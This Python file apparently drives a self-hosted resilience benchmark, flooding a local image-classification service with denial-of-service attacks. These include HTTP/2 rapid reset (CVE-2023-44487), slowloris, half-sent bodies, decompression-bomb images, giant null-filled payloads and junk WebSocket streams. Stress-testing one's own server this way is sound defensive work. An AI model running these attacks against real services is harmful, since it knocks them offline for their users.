"""The attacks of hostile.py: each runs in a process of its own and dies with all it has open.

    python benchmarks/hostile_attacks.py NAME '{"grpc": "…", "http": "…", "key": "…"}'

Prints `ready` when its pictures are made, and at the end as JSON how its calls ended.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import itertools
import json
import os
import random
import string
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import grpc
import hostile_pictures as pictures
import uvloop
from google.protobuf.struct_pb2 import Struct
from hostile_pictures import NAMES, picture
from tta_client.v1 import tta_pb2 as pb
from tta_client.v1.tta_pb2_grpc import AdaptationServiceStub
from websockets.asyncio.client import connect
from websockets.exceptions import WebSocketException

sys.path.append(str(Path(__file__).resolve().parents[1]))
from tests.half_sent import half_sent_calls

LABELS = pb.Labels(label_set=pb.LabelSet(names=NAMES))
CLASSIFY = "/tta.v1.AdaptationService/Classify"
ELSEWHERE = ("127.0.0.2", 0)  # an address of the attacker's own
Attack = Callable[["Attacker"], Awaitable[object]]
ATTACKS: dict[str, Attack] = {}


@dataclass
class Attacker:
    """Where the server is, and how the attacker's calls ended."""

    grpc: str
    http: str
    key: str
    ended: Counter[str] = field(default_factory=Counter)

    @property
    def metadata(self) -> tuple[tuple[str, str], ...]:
        return (("authorization", f"Bearer {self.key}"),)

    def channel(self) -> grpc.aio.Channel:
        most = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
        return grpc.aio.insecure_channel(self.grpc, [("grpc.use_local_subchannel_pool", 1), *most])

    async def call(self, asked: Awaitable[Any]) -> Any:
        """The reply; None, and the code is counted, when there is none."""
        try:
            reply = await asked
            self.ended["OK"] += 1
            return reply
        except grpc.aio.AioRpcError as error:
            self.ended[error.code().name] += 1
        except asyncio.CancelledError:
            self.ended["CANCELLED"] += 1
            raise
        return None

    def classify(self, channel: grpc.aio.Channel, raw: bytes) -> Awaitable[Any]:
        """One call with a message that is bytes already."""
        return channel.unary_unary(CLASSIFY)(raw, metadata=self.metadata)

    async def repeat(self, ask: Callable[[], Awaitable[Any]], at_once: int) -> None:
        """The call again and again, so many at once, until the process ends."""

        async def loop() -> None:
            while True:
                await self.call(ask())
                await asyncio.sleep(0)

        await asyncio.gather(*(loop() for _ in range(at_once)))

    async def at_rate(self, ask: Callable[[], Awaitable[Any]], fps: float, most: int = 64) -> None:
        """So many calls a second, whatever becomes of those before, up to a number in flight."""
        flying = set[asyncio.Task[Any]]()
        while True:
            if len(flying) < most:
                flying.add(task := asyncio.ensure_future(self.call(ask())))
                task.add_done_callback(flying.discard)
            await asyncio.sleep(1 / fps)


def attack(name: str) -> Callable[[Attack], Attack]:
    def register(run: Attack) -> Attack:
        ATTACKS[name] = run
        return run

    return register


def request(image: bytes, labels: pb.Labels = LABELS, strategy: str = "zero_shot", **parameters: Any) -> bytes:
    struct = Struct()
    struct.update(parameters)
    choice = pb.Choice(name=strategy, parameters=struct)
    message = pb.ClassifyRequest(image=pb.Image(encoded=image), labels=labels, options=pb.Options(strategy=choice))
    return message.SerializeToString()


def repeated(name: str, make: Callable[[], bytes], at_once: int) -> None:
    """An attack that repeats one call."""

    @attack(name)
    async def run(own: Attacker) -> None:
        raw, channel = make(), own.channel()
        start()
        await own.repeat(lambda: own.classify(channel, raw), at_once)


def start() -> None:
    print("ready", flush=True)


@attack("control: a process that only computes")
async def compute(own: Attacker) -> None:
    """What sharing the processors costs, without a word to the service."""
    start()
    while True:
        end = time.monotonic() + 0.05
        while time.monotonic() < end:
            pass
        await asyncio.sleep(0)


repeated("JPEG with 8 MB of 0xFF", lambda: request(pictures.runs_of_ff()), 4)
repeated("JPEG with 99 scans", lambda: request(pictures.many_scans()), 4)
repeated("JPEG with 2,000,000 comments", lambda: request(pictures.comments()), 4)
repeated("PNG of 16 megapixels in 47 kB", lambda: request(pictures.empty_png()), 8)
repeated("Struct of 1,500,000 nulls", pictures.nulls, 2)
repeated("loop of 64 views", lambda: request(picture(), strategy="zero", views=64), 4)
repeated("loop of 512 views", lambda: request(picture(), strategy="zero", views=512), 2)


@attack("12-megapixel JPEGs, 10 a second")
async def large_pictures(own: Attacker) -> None:
    raw, channel = request(pictures.photograph(4000, 3008)), own.channel()
    start()
    await own.at_rate(lambda: own.classify(channel, raw), 10)


@attack("ten times the neighbour's demand")
async def more_demand(own: Attacker) -> None:
    raw, channel = request(picture(), strategy="tda"), own.channel()
    start()
    await own.at_rate(lambda: own.classify(channel, raw), 100)


@attack("200 half-sent calls of 8 MB")
async def half_sent(own: Attacker) -> None:
    start()
    async with half_sent_calls(own.grpc, CLASSIFY, 200, headers=dict(own.metadata)):
        await asyncio.Event().wait()


@attack("calls that are reset at once")
async def rapid_reset(own: Attacker) -> None:
    """HTTP/2's rapid reset (CVE-2023-44487): as many calls as a connection takes, each cancelled as it begins."""
    raw, channel = request(picture()), own.channel()
    start()

    async def once() -> None:
        call = channel.unary_unary(CLASSIFY)(raw, metadata=own.metadata)
        await asyncio.sleep(0.001)
        call.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await call

    await own.repeat(once, 100)


def random_names(count: int) -> list[str]:
    return ["".join(random.choices(string.ascii_lowercase, k=12)) for _ in range(count)]


def label_sets(name: str, last: str) -> None:
    """2,000 new names with 8 templates, `last` among them; whoever asks leaves after 0.3 s and asks for others."""

    @attack(name)
    async def run(own: Attacker) -> None:
        jpeg, channel = picture(), own.channel()
        start()

        async def once() -> None:
            given = pb.LabelSet(names=[*random_names(1999), last], templates=[f"a {i} of {{}}" for i in range(8)])
            call = own.classify(channel, request(jpeg, pb.Labels(label_set=given)))
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(call, 0.3)

        await own.repeat(once, 4)


label_sets("2,000 × 8 prompts, leaving", "one more")
label_sets("2,000 × 8 prompts, refused", "word " * 50)


@attack("memories of new parameters")
async def memories(own: Attacker) -> None:
    jpeg, channel, numbers = picture(), own.channel(), itertools.count(1)
    start()

    def ask() -> Awaitable[Any]:
        return own.classify(channel, request(jpeg, strategy="self_tpt", learning_rate=1e-4 + 1e-7 * next(numbers)))

    await own.repeat(ask, 4)


@attack("300 silent streams")
async def silent_streams(own: Attacker) -> None:
    start()
    opening = pb.ClassifyStreamRequest(open=pb.OpenStream(labels=LABELS))
    calls = []
    for _ in range(3):
        stub = AdaptationServiceStub(own.channel())
        calls += [stub.ClassifyStream(metadata=own.metadata) for _ in range(100)]
    for call in calls:
        await call.write(opening)
    await asyncio.Event().wait()


@attack("50 streams that read nothing")
async def slow_readers(own: Attacker) -> None:
    start()
    block, jpeg = pb.OpenStream.POLICY_BLOCK, picture()

    async def stream() -> None:
        call = AdaptationServiceStub(own.channel()).ClassifyStream(metadata=own.metadata)
        with contextlib.suppress(grpc.aio.AioRpcError, asyncio.InvalidStateError):
            await call.write(pb.ClassifyStreamRequest(open=pb.OpenStream(labels=LABELS, policy=block)))
            for number in itertools.count(1):
                image = pb.Image(encoded=jpeg)
                await call.write(pb.ClassifyStreamRequest(frame=pb.Frame(frame_id=number, image=image)))
        own.ended["ended"] += 1

    await asyncio.gather(*(stream() for _ in range(50)))
    await asyncio.Event().wait()


@attack("loop of snapshots and restores")
async def snapshots(own: Attacker) -> None:
    channel = own.channel()
    stub = AdaptationServiceStub(channel)
    names = pb.Labels(label_set=pb.LabelSet(names=random_names(1000)))
    ask = pb.ClassifyRequest.FromString(request(picture(), names, "dota"))
    ask.session_id = "copied"
    await own.call(stub.Classify(ask, metadata=own.metadata))
    start()

    async def once() -> None:
        which = pb.SnapshotSessionRequest(session_id="copied")
        taken = await own.call(stub.SnapshotSession(which, metadata=own.metadata))
        if taken is not None:
            await stub.RestoreSession(pb.RestoreSessionRequest(snapshot=taken.snapshot), metadata=own.metadata)

    await own.repeat(once, 8)


@attack("loop of listings")
async def listings(own: Attacker) -> None:
    channel = own.channel()
    stub = AdaptationServiceStub(channel)
    shots = [pb.Lesson(image=pb.Image(encoded=picture(seed)), labels=LABELS, label=NAMES[0]) for seed in range(100)]
    await own.call(stub.TeachSession(pb.TeachSessionRequest(session_id="taught", lessons=shots), metadata=own.metadata))
    start()
    kinds = itertools.cycle(
        (
            lambda: stub.ListLessons(
                pb.ListLessonsRequest(session_id="taught", recorded=True, page_size=1000), metadata=own.metadata
            ),
            lambda: stub.ListStrategies(pb.ListStrategiesRequest(), metadata=own.metadata),
            lambda: stub.ListSessions(pb.ListSessionsRequest(page_size=1000), metadata=own.metadata),
        )
    )
    await own.repeat(lambda: next(kinds)(), 16)


@attack("lessons, 200 pictures in a call")
async def lessons(own: Attacker) -> None:
    stub = AdaptationServiceStub(own.channel())
    shots = [pb.Lesson(image=pb.Image(encoded=picture(seed)), labels=LABELS, label=NAMES[0]) for seed in range(200)]
    start()
    numbers = itertools.count()

    def ask() -> Awaitable[Any]:
        taught = pb.TeachSessionRequest(session_id=f"taught-{next(numbers) % 4}", lessons=shots)
        return stub.TeachSession(taught, metadata=own.metadata)

    await own.repeat(ask, 4)


async def post(own: Attacker, body: bytes, path: str = "/v1/classify") -> None:
    host, _, port = own.http.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port), local_addr=ELSEWHERE)
    try:
        head = f"POST {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {own.key}\r\nConnection: close\r\n"
        writer.write(f"{head}Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
        reply = await reader.read()
        own.ended[reply[9:12].decode() or "closed"] += 1
    except OSError:
        own.ended["closed"] += 1
    finally:
        writer.transport.abort()


@attack("JSON of 1,500,000 nulls")
async def json_nulls(own: Attacker) -> None:
    image = base64.b64encode(picture()).decode()
    parameters = {"views": [None] * 1_500_000}
    ask = {"image": {"encoded": image}, "labels": {"label_set": {"names": NAMES}}}
    body = json.dumps({**ask, "options": {"strategy": {"name": "zero", "parameters": parameters}}}).encode()
    start()
    await asyncio.gather(*(forever(lambda: post(own, body)) for _ in range(2)))


async def forever(ask: Callable[[], Awaitable[object]]) -> None:
    while True:
        try:
            await ask()
        except OSError:
            await asyncio.sleep(0.01)


async def hold(own: Attacker, address: str, first: bytes, drip: bytes) -> None:
    """One connection that says something each half second, again and again."""
    host, _, port = address.rpartition(":")
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection(host, int(port), local_addr=ELSEWHERE)
            own.ended["connected"] += 1
            writer.write(first)
            while not reader.at_eof():
                writer.write(drip)
                await writer.drain()
                await asyncio.sleep(0.5)
            writer.transport.abort()
        await asyncio.sleep(0.1)


@attack("1,200 dripping heads by HTTP")
async def slowloris(own: Attacker) -> None:
    start()
    head = b"POST /v1/classify HTTP/1.1\r\nHost: localhost\r\n"
    await asyncio.gather(*(hold(own, own.http, head, b"X: y\r\n") for _ in range(1200)))


@attack("100 half-sent bodies by HTTP")
async def half_bodies(own: Attacker) -> None:
    start()
    head = f"POST /v1/classify HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {own.key}\r\n"
    first = f"{head}Content-Type: application/json\r\nContent-Length: 8000000\r\n\r\n".encode() + b" " * 7_000_000
    await asyncio.gather(*(hold(own, own.http, first, b" ") for _ in range(100)))


@attack("connections that come and go")
async def connections(own: Attacker) -> None:
    start()

    async def once(address: str) -> None:
        host, _, port = address.rpartition(":")
        _, writer = await asyncio.open_connection(host, int(port), local_addr=ELSEWHERE)
        own.ended["connected"] += 1
        writer.transport.abort()

    await asyncio.gather(*(forever(lambda at=at: once(at)) for at in (own.grpc, own.http) for _ in range(50)))


@attack("1,200 silent connections")
async def silent_connections(own: Attacker) -> None:
    start()
    await asyncio.gather(*(hold(own, at, b"", b"") for at in (own.grpc, own.http) for _ in range(600)))


@attack("40 WebSockets of junk")
async def web_sockets(own: Attacker) -> None:
    start()
    first, junk = (
        json.dumps({"token": own.key, "open": {"labels": {"label_set": {"names": NAMES}}}}),
        os.urandom(1 << 20),
    )

    async def once() -> None:
        async with connect(f"ws://{own.http}/v1/stream", proxy=None, local_addr=ELSEWHERE) as socket:
            own.ended["connected"] += 1
            await socket.send(first)
            for number in itertools.count(1):
                head = json.dumps({"frame_id": number}).encode()
                await socket.send(len(head).to_bytes(4, "big") + head + junk)

    async def loop() -> None:
        while True:
            try:
                await once()
            except (OSError, WebSocketException, TimeoutError):
                await asyncio.sleep(0.01)

    await asyncio.gather(*(loop() for _ in range(40)))


async def main(name: str, own: Attacker) -> None:
    """Attack until hostile.py ends the process by a line on its standard input."""

    def crash() -> None:
        print(json.dumps(own.ended), flush=True)
        os._exit(0)

    asyncio.get_running_loop().add_reader(sys.stdin, crash)
    await ATTACKS[name](own)


if __name__ == "__main__":
    os.nice(9)  # an attacker has a machine of its own; this one shares the server's
    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
        runner.run(main(sys.argv[1], Attacker(**json.loads(sys.argv[2]))))
